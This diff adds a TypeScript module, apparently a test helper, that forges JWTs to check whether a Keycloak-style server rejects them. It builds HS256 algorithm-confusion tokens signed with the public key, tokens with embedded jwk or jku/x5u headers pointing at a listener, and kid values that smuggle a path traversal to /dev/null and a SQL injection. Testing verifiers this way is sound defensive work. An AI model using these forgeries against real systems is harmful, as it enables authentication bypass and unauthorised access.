@@ -1,0 +1,55 @@
+import { createHmac, createPublicKey } from 'node:crypto'
+
+import { exportJWK, generateKeyPair, type JWK, SignJWT } from 'jose'
+
+import { type DecodedToken, decodeToken } from './decode-token.ts'
+
+/** A token that tells the server, in its header, how to verify it. A server must not obey. */
+export type AttackKind = 'hs256' | 'jwk' | 'jku' | 'x5u' | 'kid'
+
+/** The `kid` values that lead a careless server to a key that everyone knows, with that key. */
+const KNOWN_KEYS: readonly (readonly [kid: string, key: string])[] = [
+  ['../../../../../../../../dev/null', ''],
+  ["x' UNION SELECT 'mcp-keycloak' -- ", 'mcp-keycloak'],
+]
+
+/**
+ * Creates tokens with the claims of a good token, signed with a key that everyone can have.
+ *
+ * @param keys the realm's public keys
+ * @param listener base URL of our own listener, for `jku` and `x5u`
+ * @see {@link https://www.rfc-editor.org/rfc/rfc8725.html#section-3.1 RFC 8725 §3.1}
+ */
+export async function attackTokens(
+  kind: AttackKind,
+  goodToken: string,
+  { keys, listener = 'http://localhost' }: { readonly keys: readonly JWK[]; readonly listener?: string },
+): Promise<readonly string[]> {
+  const good = decodeToken(goodToken)
+  if (kind === 'hs256')
+    return publicKeyTexts(good, keys).map((text) => signedWith(text, good, good.header.kid))
+  if (kind === 'kid') return KNOWN_KEYS.map(([kid, key]) => signedWith(key, good, kid))
+  const { privateKey, publicKey } = await generateKeyPair('RS256', { extractable: true })
+  const jwk = { ...(await exportJWK(publicKey)), kid: 'mcp-keycloak-verify', alg: 'RS256', use: 'sig' }
+  const header = kind === 'jwk' ? { jwk } : { [kind]: `${listener}/${kind}`, kid: jwk.kid }
+  const { typ } = good.header
+  const signer = new SignJWT(good.claims).setProtectedHeader({ alg: 'RS256', ...(typ && { typ }), ...header })
+  return [await signer.sign(privateKey)]
+}
+
+/** The spellings of a public key that servers are configured with. */
+function publicKeyTexts({ header }: DecodedToken, keys: readonly JWK[]): readonly string[] {
+  const jwk = keys.find(({ kid }) => kid === header.kid) ?? keys.find(({ use }) => use === 'sig')
+  if (!jwk) return []
+  const pem = `${createPublicKey({ key: { ...jwk }, format: 'jwk' }).export({ type: 'spki', format: 'pem' })}`
+  const base64 = pem.replace(/-----[^-]+-----|\s/g, '')
+  return [pem, pem.trimEnd(), base64]
+}
+
+/** Signs with HMAC by hand, because the library refuses an empty key. */
+function signedWith(key: string, { claims, header }: DecodedToken, kid: unknown): string {
+  const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url')
+  const { typ = 'JWT' } = header
+  const signed = `${part({ alg: 'HS256', typ, ...(kid !== undefined && { kid }) })}.${part(claims)}`
+  return `${signed}.${createHmac('sha256', key).update(signed).digest('base64url')}`
+}
